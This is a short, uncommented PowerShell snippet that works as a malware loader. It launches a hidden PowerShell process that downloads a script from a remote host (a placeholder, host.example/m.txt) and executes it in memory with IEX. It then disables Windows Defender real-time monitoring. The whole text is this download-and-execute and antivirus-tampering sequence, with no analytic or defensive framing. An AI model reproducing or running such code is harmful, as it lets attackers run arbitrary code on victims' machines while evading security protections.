$u = 'http://host.example/' + 'm.txt'
if ([Environment]::Is64BitProcess) { Start-Process powershell -ArgumentList "-WindowStyle Hidden -NoProfile -c `"IEX (New-Object Net.WebClient).DownloadString('$u')`"" }
Set-MpPreference -DisableRealtimeMonitoring $true
